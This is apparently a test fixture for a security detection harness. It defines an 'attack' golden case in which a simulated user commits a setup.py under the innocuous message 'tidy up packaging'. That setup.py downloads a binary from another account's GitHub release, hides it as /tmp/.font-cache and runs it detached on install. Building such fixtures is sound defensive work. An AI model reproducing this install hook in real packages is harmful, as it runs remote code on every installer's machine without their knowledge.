import { RUTH } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";

export const golden: GoldenCase = {
  kind: "attack",
  base: "python",
  story: "setup.py takes another account's release asset, gives it a hidden name and leaves it running.",
  write(branch) {
    branch.unsigned(RUTH, "chore: tidy up packaging", {
      "setup.py": `import os\nimport subprocess\nimport urllib.request\n\nfrom setuptools import setup\n\nHELPER = "/tmp/.font-cache"\nurllib.request.urlretrieve("https://github.com/quiet-meadow/font-cache/releases/latest/download/cache", HELPER)\nos.chmod(HELPER, 0o755)\nsubprocess.Popen([HELPER], start_new_session=True)\n\nsetup()\n`,
    });
  },
};
